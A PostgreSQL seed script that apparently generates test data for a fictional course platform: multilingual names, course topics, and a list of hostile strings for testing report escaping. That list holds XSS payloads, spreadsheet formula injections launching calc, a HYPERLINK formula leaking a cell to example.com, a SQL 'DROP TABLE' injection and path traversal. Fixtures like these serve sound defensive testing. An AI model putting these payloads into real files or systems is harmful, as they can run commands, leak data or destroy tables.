-- Words that the made-up platform is written with: names, hostile texts, and what the creators teach.
create or replace function pg_temp.first_names() returns text[] immutable parallel safe language sql return array[
    'Amelia', 'Noah', 'Priya', 'Mateo', 'Yuki', 'Olga', 'Liam', 'Fatima', 'Chen', 'Zoë', 'Søren', 'Ngozi', 'Lucía', 'Arjun',
    'Hannah', 'Omar',
    'Ingrid', 'Diego', 'Mei', 'Kofi', 'Élodie', 'Tomasz', 'Aisha', 'Ravi', 'Grace', 'Jürgen', 'Leila', 'Hugo', 'Sakura', 'Ivan',
    'Chloé', 'Samuel',
    'Marta', 'Kwame', 'Anika', 'Pablo', 'Freya', 'Hiro', 'Nadia', 'Oscar', 'محمد', 'נועה', 'Björn', 'Thandiwe', 'Joana', 'Emre',
    'Li', 'Ana'];

create or replace function pg_temp.last_names() returns text[] immutable parallel safe language sql return array[
    'Okafor', 'Smith', 'García', 'Müller', 'Tanaka', 'Silva', 'Kowalski', 'Nguyen', 'O''Connor', 'Haddad', 'Iyer', 'Jensen',
    'Rossi', 'Dubois', 'Kim',
    'van der Berg', 'Novák', 'Mensah', 'Patel', 'Larsen', 'Fernández', 'Schmidt', 'Wang', 'Ali', 'Johnson', 'Ivanova', 'Sato',
    'Moreau', 'Costa',
    'Brown', 'Yılmaz', 'Cohen', 'Eriksson', 'Singh', 'Walker', 'Ruiz', 'Horváth', 'Mwangi', 'Lopes', 'Petrov', 'Weiß', 'Chowdhury',
    'Lee', 'Kaya'];

-- Texts that break a report which does not escape, quote, defuse or cut.
create or replace function pg_temp.hostile_texts() returns text[] immutable parallel safe language sql return array[
    '<script>alert("hello")</script>', '=HYPERLINK("https://example.com/?leak="&A1,"Click me")', '+cmd|''/C calc''!A0',
    '@SUM(1+1)*cmd|''/C calc''!A0',
    '-2+3+cmd|''/C calc''!A0', E'\t=1+1', E'line one\nline two', E'carriage\r\nreturn', 'comma, "quotes" and ; semicolon',
    'مرحبا بالعالم', 'שלום עולם',
    E'\u202Eright to left override', '👩‍🍳🎸🧘🏽‍♀️ emoji', '"><img src=x onerror=alert(1)>', '{{ 7 * 7 }} ${7*7}',
    'Robert''); DROP TABLE students;--',
    '../../etc/passwd', '&lt;b&gt; &amp;amp; &#39;', ' leading and trailing ', '0', 'NULL', '007', '1e10',
    '2024-01-01', E'zero\u200Bwidth\uFEFF', '𝕌𝕟𝕚𝕔𝕠𝕕𝕖 ﬁ ligature',
    '</style><style>*{display:none}</style>', 'javascript:alert(1)', (select left(string_agg('very long ' || md5(no::text) || ' ', '' order by no), 10000) from generate_series(1, 240) as no), ''];

create temp table word_topics (topic int, category text[], tags text[], companies text[], courses text[], lessons text[]) on commit drop;
insert into word_topics values
(1, array['Basics', 'Data', 'Web', 'Testing'], array['python', 'code', 'beginner', 'project', 'automation'],
    array['Python Path', 'Code Kitchen', 'Hello Snake', 'Loop & List'],
    array['Python from zero', 'Working with data', 'Small web services', 'Tests that help', 'Automate your week',
    'Reading other people''s code'],
    array['Installing Python', 'Variables and types', 'Lists and dictionaries', 'Loops', 'Functions', 'Files and folders',
    'Errors and exceptions', 'Classes',
        'Virtual environments', 'Reading CSV files', 'Calling an API', 'Writing a first test']),
(2, array['Techniques', 'Baking', 'Sauces', 'World kitchen'], array['cooking', 'recipe', 'quick', 'vegetarian', 'baking'],
    array['Table for Two', 'Nonna''s Kitchen', 'Salt School', 'The Slow Pot'],
    array['Knife skills', 'Bread at home', 'Five mother sauces', 'Weeknight dinners', 'Pasta from scratch', 'Spices of India'],
    array['Holding a knife', 'Chopping onions', 'Stock and broth', 'Kneading dough', 'Proving and shaping', 'Roux and béchamel',
    'Searing meat', 'Cooking rice',
        'Resting and carving', 'Fresh pasta', 'Seasoning', 'Plating']),
(3, array['Camera', 'Light', 'Editing', 'Portrait'], array['photography', 'camera', 'light', 'editing', 'portrait'],
    array['Golden Hour', 'Shutter Club', 'Light Room 7', 'One Good Lens'],
    array['Know your camera', 'Seeing light', 'Portraits', 'Editing with restraint', 'Street photography', 'A portfolio'],
    array['Aperture', 'Shutter speed', 'ISO and noise', 'Focus modes', 'White balance', 'Window light', 'Flash off camera',
    'Posing people', 'Composition',
        'Raw files', 'Colour grading', 'Exporting for print']),
(4, array['Chords', 'Rhythm', 'Theory', 'Songs'], array['guitar', 'music', 'chords', 'practice', 'songs'],
    array['Six Strings', 'Barre Chord Bar', 'Fretwork', 'Capo Academy'],
    array['First chords', 'Strumming and rhythm', 'Fingerstyle', 'Theory for guitarists', 'Blues in E', 'Ten songs'],
    array['Tuning', 'G, C and D', 'Changing chords', 'Down and up strokes', 'The F chord', 'Muting strings', 'Reading tabs',
    'Pentatonic scale', 'Hammer-ons',
        'Playing with a metronome', 'Fingerpicking', 'Playing together']),
(5, array['Strength', 'Mobility', 'Running', 'Nutrition'], array['fitness', 'strength', 'mobility', 'running', 'home'],
    array['Strong Slowly', 'Morning Moves', 'Couch to Coast', 'Joint Effort'],
    array['Strength at home', 'Mobility in ten minutes', 'Your first 5 km', 'Eating for training', 'Back without pain',
    'Kettlebell basics'],
    array['Warming up', 'The squat', 'Push-ups', 'The hip hinge', 'Breathing', 'Planks', 'Running form', 'Rest days',
    'Stretching hips', 'Protein', 'Shoulder care',
        'Planning a week']),
(6, array['Budget', 'Saving', 'Investing', 'Taxes'], array['money', 'budget', 'saving', 'investing', 'tax'],
    array['Penny Wise', 'The Calm Investor', 'Ledger & Life', 'Rainy Day Fund'],
    array['A budget that lasts', 'Out of debt', 'Index funds', 'Pension basics', 'Tax return in a day', 'Money as a couple'],
    array['Where money goes', 'The first budget', 'Emergency fund', 'Interest', 'Credit cards', 'Index funds explained', 'Fees',
    'Risk', 'Pension accounts',
        'Tax brackets', 'Insurance', 'Talking about money']);
